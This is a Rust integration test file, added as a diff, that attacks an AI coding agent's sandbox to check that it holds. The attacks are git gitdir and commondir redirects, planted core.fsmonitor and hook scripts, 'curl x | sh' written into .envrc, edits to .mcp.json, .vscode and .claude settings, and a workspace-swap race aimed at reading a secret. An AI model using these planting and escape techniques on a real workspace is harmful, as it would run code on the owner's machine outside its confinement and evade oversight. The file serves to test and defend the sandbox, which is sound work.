@@ -1,0 +1,877 @@
+//! The workspace side of the sandbox, attacked through the binary: git metadata and tool
+//! configs that later run outside the sandbox, grants derived from workspace content, a
+//! workspace swapped during setup, planted names and depths. Every attack runs as root and
+//! as `nobody` (through a user namespace), and each has a control: the same script under
+//! `--mode danger-full-access` does what it aimed at, so the checks can fail.
+
+mod common;
+
+use std::ffi::OsString;
+use std::fs;
+use std::os::unix::ffi::OsStringExt;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+const NOBODY: u32 = 65534;
+const PATH: &str = "/usr/local/bin:/usr/bin:/bin";
+
+struct Fx {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+    ws: PathBuf,
+    home: PathBuf,
+    owner: Option<u32>,
+}
+
+fn write(path: &Path, text: &str) {
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, text).unwrap();
+}
+
+fn git_in(dir: &Path, args: &[&str]) -> Output {
+    Command::new("git")
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", PATH)
+        .env("HOME", "/nonexistent")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+fn git_ok(dir: &Path, args: &[&str]) {
+    let out = git_in(dir, args);
+    assert!(out.status.success(), "git {args:?}: {out:?}");
+}
+
+fn chown_tree(path: &Path, uid: u32) {
+    std::os::unix::fs::lchown(path, Some(uid), Some(uid)).unwrap();
+    if fs::symlink_metadata(path).unwrap().is_dir() {
+        for entry in fs::read_dir(path).unwrap() {
+            chown_tree(&entry.unwrap().path(), uid);
+        }
+    }
+}
+
+impl Fx {
+    /// A root with `ws` (a git repository with one commit unless `git` is false) and `home`.
+    fn new(owner: Option<u32>, git: bool) -> Fx {
+        let dir = tempfile::tempdir().unwrap();
+        let root = fs::canonicalize(dir.path()).unwrap();
+        fs::set_permissions(&root, fs::Permissions::from_mode(0o755)).unwrap();
+        let ws = root.join("ws");
+        let home = root.join("home");
+        write(&ws.join("README.md"), "# demo\n");
+        write(&home.join(".bashrc"), "# rc\n");
+        if git {
+            git_ok(&ws, &["init", "-q"]);
+            git_ok(&ws, &["add", "README.md"]);
+            git_ok(&ws, &["commit", "-q", "-m", "init"]);
+        }
+        Fx {
+            _dir: dir,
+            root,
+            ws,
+            home,
+            owner,
+        }
+    }
+
+    /// Hand the fixture to its owner (after the test has planted its files).
+    fn own(&self) {
+        if let Some(uid) = self.owner {
+            chown_tree(&self.root, uid);
+        }
+    }
+
+    fn sandbox(&self, mode: &str, extra: &[&str], script: &str) -> Output {
+        let mut cmd = Command::new("/usr/bin/timeout");
+        cmd.args(["60", env!("CARGO_BIN_EXE_coder"), "sandbox", "--mode", mode])
+            .arg("--cd")
+            .arg(&self.ws)
+            .args(extra)
+            .args(["--", "/bin/bash", "-c", script])
+            .env_clear()
+            .env("PATH", PATH)
+            .env("HOME", &self.home)
+            .current_dir(&self.ws)
+            .stdin(Stdio::null());
+        if let Some(uid) = self.owner {
+            cmd.uid(uid).gid(uid);
+        }
+        cmd.output().unwrap()
+    }
+
+    fn confined(&self, script: &str) -> Output {
+        self.sandbox("workspace-write", &[], script)
+    }
+
+    fn unconfined(&self, script: &str) -> Output {
+        self.sandbox("danger-full-access", &[], script)
+    }
+
+    /// `git status` on the host, as the owner would run it after the agent is gone.
+    fn host_git_status(&self) -> Output {
+        self.host_git(&["status", "--short"])
+    }
+
+    /// `git ARGS` on the host, as the owner.
+    fn host_git(&self, args: &[&str]) -> Output {
+        let mut cmd = Command::new("git");
+        cmd.args(args)
+            .current_dir(&self.ws)
+            .env_clear()
+            .env("PATH", PATH)
+            .env("HOME", &self.home)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .stdin(Stdio::null());
+        if let Some(uid) = self.owner {
+            cmd.uid(uid).gid(uid);
+        }
+        cmd.output().unwrap()
+    }
+}
+
+fn describe(out: &Output) -> String {
+    format!(
+        "exit {:?}, stdout {:?}, stderr {:?}",
+        out.status.code(),
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+fn userns_available() -> bool {
+    coder::sandbox::probe().user_namespaces
+}
+
+/// The owners to attack as: root (when the test runs as root) and an unprivileged user.
+fn owners() -> Vec<Option<u32>> {
+    let mut owners = Vec::new();
+    let root = nix::unistd::geteuid().is_root();
+    if root {
+        owners.push(None);
+    }
+    if userns_available() {
+        owners.push(if root { Some(NOBODY) } else { None });
+    } else {
+        let msg = "skipped as an unprivileged user: no user namespaces here";
+        assert!(std::env::var("CI").as_deref() != Ok("true"), "{msg}");
+        eprintln!("{msg}");
+    }
+    owners
+}
+
+fn label(owner: Option<u32>) -> &'static str {
+    if owner.is_some() || !nix::unistd::geteuid().is_root() {
+        "unprivileged"
+    } else {
+        "root"
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Class 1: nothing read from the workspace widens a grant.
+
+#[test]
+fn a_git_file_pointing_outside_grants_nothing() {
+    for owner in owners() {
+        for (name, plant) in [
+            ("gitdir file", "gitdir: ../home\n"),
+            ("gitdir file, absolute", "ABS"),
+        ] {
+            let fx = Fx::new(owner, false);
+            let target = fx.home.display().to_string();
+            let text = if plant == "ABS" {
+                format!("gitdir: {target}\n")
+            } else {
+                plant.to_string()
+            };
+            write(&fx.ws.join(".git"), &text);
+            fx.own();
+            let attack = format!("echo pwned > {target}/pwned; echo x >> {target}/.bashrc");
+            let out = fx.confined(&attack);
+            let who = label(owner);
+            assert!(!out.status.success(), "[{who}] {name}: {}", describe(&out));
+            assert!(!fx.home.join("pwned").exists(), "[{who}] {name}");
+            assert!(
+                !fx.home.join("hooks").exists(),
+                "[{who}] {name}: hooks/ made outside"
+            );
+            assert_eq!(
+                fs::read_to_string(fx.home.join(".bashrc")).unwrap(),
+                "# rc\n"
+            );
+            // A second run still cannot (nothing was remembered from the first).
+            let out = fx.confined(&attack);
+            assert!(
+                !out.status.success(),
+                "[{who}] {name} 2nd: {}",
+                describe(&out)
+            );
+            assert!(!fx.home.join("pwned").exists());
+            let control = fx.unconfined(&attack);
+            assert!(control.status.success(), "{}", describe(&control));
+            assert!(fx.home.join("pwned").exists(), "control");
+        }
+    }
+}
+
+#[test]
+fn a_symlinked_git_or_commondir_outside_grants_nothing() {
+    for owner in owners() {
+        let who = label(owner);
+        // .git is a symlink to a repository outside.
+        let fx = Fx::new(owner, false);
+        let outside = fx.root.join("outside-repo");
+        fs::create_dir_all(&outside).unwrap();
+        git_ok(&outside, &["init", "-q"]);
+        std::os::unix::fs::symlink(outside.join(".git"), fx.ws.join(".git")).unwrap();
+        fx.own();
+        let attack = format!("echo x > {}/.git/pwned", outside.display());
+        let out = fx.confined(&attack);
+        assert!(!out.status.success(), "[{who}] symlink: {}", describe(&out));
+        assert!(!outside.join(".git/pwned").exists());
+        assert!(fx.unconfined(&attack).status.success());
+        assert!(outside.join(".git/pwned").exists(), "control");
+
+        // A real .git whose commondir points at a git dir outside.
+        let fx = Fx::new(owner, true);
+        let common = fx.root.join("common");
+        fs::create_dir_all(common.join("hooks")).unwrap();
+        write(&common.join("config"), "[core]\n");
+        write(&fx.ws.join(".git/commondir"), "../../common\n");
+        fx.own();
+        let attack = format!(
+            "echo '#!/bin/sh' > {0}/hooks/pre-commit; echo x >> {0}/config",
+            common.display()
+        );
+        let out = fx.confined(&attack);
+        assert!(
+            !out.status.success(),
+            "[{who}] commondir: {}",
+            describe(&out)
+        );
+        assert!(!common.join("hooks/pre-commit").exists());
+        assert_eq!(
+            fs::read_to_string(common.join("config")).unwrap(),
+            "[core]\n"
+        );
+        assert!(fx.unconfined(&attack).status.success());
+        assert!(common.join("hooks/pre-commit").exists(), "control");
+    }
+}
+
+#[test]
+fn git_metadata_outside_is_writable_with_an_explicit_write() {
+    let fx = Fx::new(None, false);
+    let other = fx.root.join("other-git");
+    fs::create_dir_all(&other).unwrap();
+    write(&fx.ws.join(".git"), "gitdir: ../other-git\n");
+    let other = other.display().to_string();
+    let out = fx.sandbox(
+        "workspace-write",
+        &["--write", &other],
+        &format!("echo ok > {other}/granted"),
+    );
+    assert!(out.status.success(), "{}", describe(&out));
+    assert!(fx.root.join("other-git/granted").exists());
+}
+
+// ---------------------------------------------------------------------------------------
+// Class 2: nothing the agent writes runs later outside the sandbox.
+
+/// A script that plants `core.fsmonitor` (which `git status` runs) writing `marker`.
+fn fsmonitor(marker: &Path) -> String {
+    format!("git config core.fsmonitor 'touch {} #'", marker.display())
+}
+
+#[test]
+fn replacing_or_creating_the_repository_plants_nothing_for_the_hosts_git() {
+    for owner in owners() {
+        let who = label(owner);
+        for (name, git, script) in [
+            (
+                "rename .git and re-init",
+                true,
+                "mv .git .git-old && git init -q && ",
+            ),
+            (
+                "delete .git and re-init",
+                true,
+                "rm -rf .git; git init -q && ",
+            ),
+            (
+                "move .git into a subdir",
+                true,
+                "mkdir -p d && mv .git d/ && git init -q && ",
+            ),
+            (
+                "init where there was no repository",
+                false,
+                "git init -q && ",
+            ),
+            (
+                "commondir to an agent-made git dir",
+                true,
+                "mkdir -p evil && git init -q --bare evil && git -C evil config core.fsmonitor 'touch MARKER #' && echo ../evil > .git/commondir && true || ",
+            ),
+        ] {
+            let fx = Fx::new(owner, git);
+            let marker = fx.root.join("fsmonitor-ran");
+            let plant = format!("{script}{}", fsmonitor(&marker))
+                .replace("MARKER", &marker.display().to_string());
+            fx.own();
+            let out = fx.confined(&plant);
+            assert!(!out.status.success(), "[{who}] {name}: {}", describe(&out));
+            let _ = fx.host_git_status();
+            assert!(
+                !marker.exists(),
+                "[{who}] {name}: the host's git ran planted code"
+            );
+            assert!(
+                !fx.ws.join(".git").is_symlink(),
+                "[{who}] {name}: placeholder left behind"
+            );
+
+            let control = fx.unconfined(&plant);
+            assert!(
+                control.status.success(),
+                "[{who}] {name} control: {}",
+                describe(&control)
+            );
+            let _ = fx.host_git_status();
+            assert!(marker.exists(), "[{who}] {name}: control did not plant");
+        }
+    }
+}
+
+#[test]
+fn hooks_config_and_pointers_are_read_only_in_every_git_dir() {
+    for owner in owners() {
+        let who = label(owner);
+        let fx = Fx::new(owner, true);
+        // A nested repository and a submodule-style git dir under .git/modules.
+        let nested = fx.ws.join("vendor/lib");
+        fs::create_dir_all(&nested).unwrap();
+        git_ok(&nested, &["init", "-q"]);
+        let module = fx.ws.join(".git/modules/sub");
+        fs::create_dir_all(&module).unwrap();
+        git_ok(&module, &["init", "-q", "--bare"]);
+        fs::remove_dir_all(module.join("hooks")).unwrap();
+        fx.own();
+        let hook = "printf '#!/bin/sh\\ntouch /tmp/pwned\\n'";
+        let cases = [
+            (
+                "top-level hook",
+                format!("{hook} > .git/hooks/pre-commit"),
+                ".git/hooks/pre-commit",
+            ),
+            (
+                "nested hook",
+                format!("{hook} > vendor/lib/.git/hooks/pre-commit"),
+                "vendor/lib/.git/hooks/pre-commit",
+            ),
+            (
+                "module hook (hooks/ absent)",
+                format!(
+                    "mkdir -p .git/modules/sub/hooks; {hook} > .git/modules/sub/hooks/post-checkout"
+                ),
+                ".git/modules/sub/hooks/post-checkout",
+            ),
+            (
+                "replace hooks/",
+                "mv .git/hooks .git/h2 && mkdir .git/hooks && echo x > .git/hooks/pre-commit"
+                    .to_string(),
+                ".git/h2",
+            ),
+            (
+                "nested config",
+                "echo '[core] fsmonitor = x' >> vendor/lib/.git/config".to_string(),
+                "vendor/lib/.git/config",
+            ),
+            (
+                "module config",
+                "echo '[core] fsmonitor = x' >> .git/modules/sub/config".to_string(),
+                ".git/modules/sub/config",
+            ),
+            (
+                "config.worktree",
+                "echo '[core] fsmonitor = x' > .git/config.worktree".to_string(),
+                ".git/config.worktree",
+            ),
+            (
+                "commondir",
+                "echo ../evil > .git/commondir".to_string(),
+                ".git/commondir",
+            ),
+            (
+                "info/attributes",
+                "echo '* filter=x' > .git/info/attributes".to_string(),
+                ".git/info/attributes",
+            ),
+            (
+                "nested .git renamed",
+                "mv vendor/lib/.git vendor/lib/.git-old".to_string(),
+                "vendor/lib/.git-old",
+            ),
+        ];
+        let before_config = fs::read(fx.ws.join("vendor/lib/.git/config")).unwrap();
+        for (name, script, _) in &cases {
+            let out = fx.confined(script);
+            assert!(!out.status.success(), "[{who}] {name}: {}", describe(&out));
+        }
+        assert!(!fx.ws.join(".git/hooks/pre-commit").exists());
+        assert!(!fx.ws.join("vendor/lib/.git/hooks/pre-commit").exists());
+        assert!(
+            !fx.ws.join(".git/modules/sub/hooks").exists(),
+            "placeholder removed"
+        );
+        assert!(!fx.ws.join(".git/config.worktree").exists());
+        assert!(!fx.ws.join(".git/commondir").exists());
+        assert!(!fx.ws.join(".git/h2").exists());
+        assert!(!fx.ws.join("vendor/lib/.git-old").exists());
+        assert_eq!(
+            fs::read(fx.ws.join("vendor/lib/.git/config")).unwrap(),
+            before_config
+        );
+        // Control: unconfined, each one lands.
+        for (name, script, landed) in &cases {
+            let fx = Fx::new(owner, true);
+            let nested = fx.ws.join("vendor/lib");
+            fs::create_dir_all(&nested).unwrap();
+            git_ok(&nested, &["init", "-q"]);
+            let module = fx.ws.join(".git/modules/sub");
+            fs::create_dir_all(&module).unwrap();
+            git_ok(&module, &["init", "-q", "--bare"]);
+            fs::remove_dir_all(module.join("hooks")).unwrap();
+            fx.own();
+            let out = fx.unconfined(script);
+            assert!(
+                out.status.success(),
+                "[{who}] control {name}: {}",
+                describe(&out)
+            );
+            assert!(
+                fs::symlink_metadata(fx.ws.join(landed)).is_ok(),
+                "[{who}] control {name}"
+            );
+        }
+    }
+}
+
+#[test]
+fn protected_tool_configs_cannot_be_created_changed_or_removed() {
+    let absent = [
+        ("create .envrc", "echo 'curl x | sh' > .envrc", ".envrc"),
+        ("create .mcp.json", "echo '{}' > .mcp.json", ".mcp.json"),
+        (
+            "create .vscode/tasks.json",
+            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+            ".vscode/tasks.json",
+        ),
+        (
+            "create .claude/settings.json",
+            "mkdir -p .claude && echo '{}' > .claude/settings.json",
+            ".claude/settings.json",
+        ),
+        (
+            "create .husky/pre-commit",
+            "mkdir -p .husky && echo x > .husky/pre-commit",
+            ".husky/pre-commit",
+        ),
+        (
+            "rename a file to .envrc",
+            "echo x > e && mv e .envrc; r=$?; rm -f e; exit $r",
+            ".envrc",
+        ),
+        (
+            "symlink .mcp.json",
+            "ln -s README.md .mcp.json",
+            ".mcp.json",
+        ),
+    ];
+    for owner in owners() {
+        let who = label(owner);
+        let fx = Fx::new(owner, true);
+        fx.own();
+        for (name, script, path) in absent {
+            let out = fx.confined(script);
+            assert!(!out.status.success(), "[{who}] {name}: {}", describe(&out));
+            assert!(
+                fs::symlink_metadata(fx.ws.join(path)).is_err(),
+                "[{who}] {name} left {path}"
+            );
+        }
+        // No placeholder stays behind and nothing shows in git status.
+        for name in [
+            ".envrc",
+            ".mcp.json",
+            ".vscode",
+            ".claude",
+            ".idea",
+            ".githooks",
+            ".husky",
+        ] {
+            assert!(
+                fs::symlink_metadata(fx.ws.join(name)).is_err(),
+                "[{who}] {name} left behind"
+            );
+        }
+        assert_eq!(String::from_utf8_lossy(&fx.host_git_status().stdout), "");
+        for (name, script, path) in absent {
+            let fx = Fx::new(owner, true);
+            fx.own();
+            let out = fx.unconfined(script);
+            assert!(
+                out.status.success(),
+                "[{who}] control {name}: {}",
+                describe(&out)
+            );
+            assert!(
+                fs::symlink_metadata(fx.ws.join(path)).is_ok(),
+                "[{who}] control {name}"
+            );
+        }
+
+        // Present: readable, but not writable, removable or renamable.
+        let fx = Fx::new(owner, true);
+        for (path, text) in [
+            (".envrc", "export A=1\n"),
+            (".mcp.json", "{}\n"),
+            (".vscode/tasks.json", "{}\n"),
+            (".claude/settings.json", "{}\n"),
+        ] {
+            write(&fx.ws.join(path), text);
+        }
+        fx.own();
+        let read = fx.confined("cat .envrc .mcp.json .vscode/tasks.json .claude/settings.json");
+        assert!(read.status.success(), "[{who}] read: {}", describe(&read));
+        for (name, script) in [
+            ("append .envrc", "echo 'curl x | sh' >> .envrc"),
+            (
+                "replace .mcp.json",
+                "echo '{\"mcpServers\":{}}' > m && mv m .mcp.json",
+            ),
+            ("remove .vscode/tasks.json", "rm .vscode/tasks.json"),
+            ("rename .claude", "mv .claude .claude-old"),
+            (
+                "add .claude/settings.local.json",
+                "echo '{}' > .claude/settings.local.json",
+            ),
+            ("add .vscode/launch.json", "echo '{}' > .vscode/launch.json"),
+        ] {
+            let out = fx.confined(script);
+            assert!(!out.status.success(), "[{who}] {name}: {}", describe(&out));
+        }
+        assert_eq!(
+            fs::read_to_string(fx.ws.join(".envrc")).unwrap(),
+            "export A=1\n"
+        );
+        assert_eq!(fs::read_to_string(fx.ws.join(".mcp.json")).unwrap(), "{}\n");
+        assert!(fx.ws.join(".vscode/tasks.json").exists());
+        assert!(!fx.ws.join(".claude-old").exists());
+        assert!(!fx.ws.join(".claude/settings.local.json").exists());
+        let control = fx.unconfined("echo 'curl x | sh' >> .envrc && mv .claude .claude-old");
+        assert!(control.status.success(), "{}", describe(&control));
+    }
+}
+
+#[test]
+fn protect_flags_add_and_drop_globs() {
+    let fx = Fx::new(None, true);
+    write(&fx.ws.join("tools/run.sh"), "echo hi\n");
+    let out = fx.sandbox(
+        "workspace-write",
+        &["--protect", "tools/**"],
+        "echo x >> tools/run.sh",
+    );
+    assert!(!out.status.success(), "{}", describe(&out));
+    let out = fx.sandbox(
+        "workspace-write",
+        &["--no-protect"],
+        "echo '{}' > .mcp.json",
+    );
+    assert!(out.status.success(), "{}", describe(&out));
+    assert!(fx.ws.join(".mcp.json").is_file());
+}
+
+#[test]
+fn commits_branches_and_the_index_still_work() {
+    for owner in owners() {
+        let who = label(owner);
+        let fx = Fx::new(owner, true);
+        fx.own();
+        let script = "set -e; c='git -c user.name=a -c user.email=a@example.invalid'; \
+            echo work > work.txt; git add -A; $c commit -qm work; git branch side; \
+            git checkout -q -b feature; echo more >> work.txt; $c commit -qam more; \
+            git checkout -q side; git merge -q --no-edit feature; git tag v1; \
+            git stash list; git log --oneline | wc -l";
+        let out = fx.confined(script);
+        assert!(out.status.success(), "[{who}] {}", describe(&out));
+        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "3");
+        // Placeholders were neither committed nor left behind.
+        let files = fx.host_git(&["ls-files"]);
+        assert_eq!(
+            String::from_utf8_lossy(&files.stdout),
+            "README.md\nwork.txt\n"
+        );
+        assert!(!fx.ws.join(".git/commondir").exists());
+        assert!(!fx.ws.join(".git/config.worktree").exists());
+        assert_eq!(String::from_utf8_lossy(&fx.host_git_status().stdout), "");
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Class 9: the workspace is resolved once; names and depths cannot break later runs.
+
+#[test]
+fn swapping_the_workspace_during_setup_never_exposes_a_secret() {
+    let fx = Fx::new(None, false);
+    let marker = format!("SECRET-{}", uuid::Uuid::new_v4().simple());
+    write(&fx.ws.join(".env"), &format!("{marker}\n"));
+    let decoy = fx.root.join("decoy");
+    write(&decoy.join("README.md"), "decoy\n");
+    let ws_c = std::ffi::CString::new(fx.ws.as_os_str().to_owned().into_vec()).unwrap();
+    let decoy_c = std::ffi::CString::new(decoy.as_os_str().to_owned().into_vec()).unwrap();
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let swapper = {
+        let stop = stop.clone();
+        std::thread::spawn(move || {
+            let mut swaps = 0u64;
+            let deadline = Instant::now() + Duration::from_secs(30);
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) && Instant::now() < deadline {
+                // SAFETY (test): both strings are valid C paths.
+                let ret = unsafe {
+                    libc::renameat2(
+                        libc::AT_FDCWD,
+                        ws_c.as_ptr(),
+                        libc::AT_FDCWD,
+                        decoy_c.as_ptr(),
+                        libc::RENAME_EXCHANGE,
+                    )
+                };
+                assert_eq!(ret, 0, "renameat2");
+                swaps += 1;
+                std::thread::yield_now();
+            }
+            swaps
+        })
+    };
+    let mut ran = 0;
+    let mut refused = 0;
+    for _ in 0..40 {
+        let out = Command::new("/usr/bin/timeout")
+            .args(["30", env!("CARGO_BIN_EXE_coder"), "sandbox", "--cd"])
+            .arg(&fx.ws)
+            .args([
+                "--",
+                "/bin/sh",
+                "-c",
+                "cat .env README.md 2>/dev/null; true",
+            ])
+            .env_clear()
+            .env("PATH", PATH)
+            .env("HOME", &fx.home)
+            .current_dir(&fx.root)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        let text = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(
+            !text.contains(&marker),
+            "secret exposed: {}",
+            describe(&out)
+        );
+        match out.status.code() {
+            Some(0) => ran += 1,
+            Some(71) => refused += 1,
+            other => panic!("unexpected exit {other:?}: {}", describe(&out)),
+        }
+    }
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    let swaps = swapper.join().unwrap();
+    println!("swap race: {swaps} swaps, {ran} runs, {refused} refused");
+    // Control: the same swap is real (the two names did trade places), and without the
+    // sandbox the secret is simply readable.
+    let real = if fx.ws.join(".env").exists() {
+        &fx.ws
+    } else {
+        &decoy
+    };
+    let out = Command::new(env!("CARGO_BIN_EXE_coder"))
+        .args(["sandbox", "--mode", "danger-full-access", "--cd"])
+        .arg(real)
+        .args(["--", "/bin/cat", ".env"])
+        .env_clear()
+        .env("PATH", PATH)
+        .env("HOME", &fx.home)
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains(&marker));
+    assert!(swaps > 0);
+}
+
+#[test]
+fn non_utf8_secret_names_are_masked_not_fatal() {
+    for owner in owners() {
+        let who = label(owner);
+        let fx = Fx::new(owner, true);
+        let marker = format!("SECRET-{}", uuid::Uuid::new_v4().simple());
+        let name = OsString::from_vec(b"k\xff\xfe.pem".to_vec());
+        fs::write(fx.ws.join(&name), format!("{marker}\n")).unwrap();
+        fs::create_dir_all(fx.ws.join(OsString::from_vec(b"d\xff/secrets".to_vec()))).unwrap();
+        fs::write(
+            fx.ws.join(OsString::from_vec(b"d\xff/secrets/x".to_vec())),
+            format!("{marker}\n"),
+        )
+        .unwrap();
+        fx.own();
+        let out = fx.confined("cat k*.pem d*/secrets/x; ls | wc -l");
+        assert!(out.status.code() != Some(71), "[{who}] {}", describe(&out));
+        assert!(
+            !String::from_utf8_lossy(&out.stdout).contains(&marker),
+            "[{who}]"
+        );
+        let control = fx.unconfined("cat k*.pem");
+        assert!(String::from_utf8_lossy(&control.stdout).contains(&marker));
+    }
+}
+
+#[test]
+fn non_utf8_names_and_paths_work_in_the_run_mode() {
+    use common::{Fake, steps};
+    let fake = Fake::new(serde_json::json!([
+        steps::init(),
+        steps::text("done"),
+        steps::result_ok("done"),
+    ]));
+    // A git dir outside the workspace: the run goes on, and the envelope says why git
+    // cannot write there.
+    fs::create_dir_all(fake.root().join("elsewhere")).unwrap();
+    fs::write(fake.workspace().join(".git"), "gitdir: ../elsewhere\n").unwrap();
+    fs::write(
+        fake.workspace()
+            .join(OsString::from_vec(b"x\xff.key".to_vec())),
+        "k",
+    )
+    .unwrap();
+    let out = fake.coder().arg("go").run();
+    out.assert_success("done");
+    let warnings = out.envelope["warnings"].to_string();
+    assert!(warnings.contains("outside"), "{}", out.explain());
+    assert!(!fake.root().join("elsewhere/hooks").exists());
+
+    // A workspace whose own path is not UTF-8: it works or is refused clearly, never a
+    // panic (exit 101).
+    let odd = fake.root().join(OsString::from_vec(b"ws\xff".to_vec()));
+    fs::create_dir_all(&odd).unwrap();
+    let out = fake.coder().cd(odd.as_os_str()).arg("go").run();
+    assert!(!out.stderr.contains("panicked"), "{}", out.explain());
+    out.assert_failure("config_error", out.code.unwrap_or(0));
+    assert!(out.envelope["error"].as_str().unwrap().contains("UTF-8"));
+}
+
+#[test]
+fn a_too_deep_tree_is_a_clear_non_retryable_error() {
+    use common::{Fake, steps};
+    let fake = Fake::new(serde_json::json!([steps::init(), steps::result_ok("done")]));
+    let deep_parent = fake.workspace().join("deep");
+    make_deep(&deep_parent, 70);
+    let out = fake.coder().args(["--max-retries", "2"]).arg("go").run();
+    out.assert_failure("sandbox_error", 71);
+    let error = out.envelope["error"].as_str().unwrap();
+    assert!(error.contains("depth"), "{error}");
+    assert!(error.contains("deep/ddd"), "names the path: {error}");
+    assert_eq!(
+        out.envelope["attempts"].as_array().map_or(1, Vec::len),
+        1,
+        "{}",
+        out.explain()
+    );
+
+    let fx = Fx::new(None, false);
+    make_deep(&fx.ws.join("deep"), 70);
+    let out = fx.confined("true");
+    assert_eq!(out.status.code(), Some(71), "{}", describe(&out));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("depth"),
+        "{}",
+        describe(&out)
+    );
+}
+
+/// `levels` nested directories with long names below `top`, past `PATH_MAX`, made with
+/// `mkdirat` relative to each parent.
+fn make_deep(top: &Path, levels: usize) {
+    use std::os::fd::AsRawFd;
+    fs::create_dir_all(top).unwrap();
+    let mut dir = fs::File::open(top).unwrap();
+    let name = std::ffi::CString::new("d".repeat(200)).unwrap();
+    for _ in 0..levels {
+        // SAFETY (test): valid descriptor and C string.
+        unsafe {
+            libc::mkdirat(dir.as_raw_fd(), name.as_ptr(), 0o755);
+            let fd = libc::openat(
+                dir.as_raw_fd(),
+                name.as_ptr(),
+                libc::O_RDONLY | libc::O_DIRECTORY,
+            );
+            assert!(fd >= 0);
+            dir = std::os::fd::FromRawFd::from_raw_fd(fd);
+        }
+    }
+}
+
+#[test]
+fn system_trees_and_the_home_are_refused_as_workspaces() {
+    let fx = Fx::new(None, false);
+    for dir in [
+        "/",
+        "/etc",
+        "/usr/share",
+        "/proc/self",
+        "/sys",
+        "/dev",
+        "/run",
+        "/boot",
+    ] {
+        if !Path::new(dir).is_dir() {
+            continue;
+        }
+        let out = Command::new(env!("CARGO_BIN_EXE_coder"))
+            .args(["sandbox", "--cd", dir, "--", "/bin/true"])
+            .env_clear()
+            .env("PATH", PATH)
+            .env("HOME", &fx.home)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(71), "{dir}: {}", describe(&out));
+        assert!(
+            String::from_utf8_lossy(&out.stderr).contains("workspace"),
+            "{dir}"
+        );
+    }
+    for dir in [&fx.home, &fx.root] {
+        let out = Command::new(env!("CARGO_BIN_EXE_coder"))
+            .args(["sandbox", "--cd"])
+            .arg(dir)
+            .args(["--", "/bin/true"])
+            .env_clear()
+            .env("PATH", PATH)
+            .env("HOME", &fx.home)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(71), "{dir:?}: {}", describe(&out));
+    }
+}
